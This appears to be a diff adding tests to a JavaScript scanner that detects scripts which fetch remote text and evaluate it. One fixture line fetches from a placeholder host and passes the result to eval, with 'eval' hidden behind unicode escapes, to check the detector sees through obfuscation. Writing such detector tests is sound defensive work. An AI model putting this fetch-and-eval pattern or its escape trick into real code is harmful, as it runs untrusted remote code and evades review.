@@ -14,6 +14,10 @@ describe('detect-scripts', () => {
     expect(seenInProject(detectScripts, files).filter((seen) => !seen.startsWith('starts-process'))).toEqual([]);
   });
 
+  it.each(['\\u0065val', 'ev\\u{61}l', '\\u{000065}val'])('sees a name of which letters are written as escapes: %s', (name) => {
+    expect(seenInProject(detectScripts, { 'a.js': `fetch('https://b.example').then((r) => r.text()).then(${name})` })).toContain('runs-fetched-text a.js:1');
+  });
+
   it('says which files could not be parsed', () => {
     expect(lookAtScripts(projectOf({ 'a.js': 'eval(x) (((' })).notParsed).toEqual(['a.js']);
   });
